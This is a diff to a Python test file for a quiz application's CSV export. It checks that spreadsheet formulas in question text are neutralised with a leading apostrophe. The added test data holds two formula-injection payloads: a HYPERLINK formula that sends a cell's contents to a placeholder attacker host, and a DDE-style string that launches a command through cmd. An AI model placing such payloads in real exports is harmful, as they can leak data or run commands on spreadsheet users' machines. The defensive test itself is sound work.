@@ -190,10 +190,15 @@ def test_the_csv_export_has_one_row_per_choice_and_no_person_data(client, educat
     assert "Testesen" not in text
 
 
-def test_the_csv_export_defuses_spreadsheet_formulas(client, educator):
-    question = QuestionFactory(text='=HYPERLINK("x")')
+@pytest.mark.parametrize(
+    "payload",
+    ['=HYPERLINK("http://evil.example/?leak="&A2,"Se status")', "@SUM(1+1)*cmd|' /C calc'!A0"],
+)
+def test_the_csv_export_defuses_spreadsheet_formulas(client, educator, payload):
+    question = QuestionFactory(text=payload)
     quiz = QuizFactory(questions=[question])
     client.force_login(educator)
     AnswerFactory(attempt=AttemptFactory(quiz=quiz), question=question)
     text = client.get(reverse("quizzes:analysis_csv", args=[quiz.pk])).content.decode()
-    assert "'=HYPERLINK" in text
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert rows[1][2] == "'" + payload
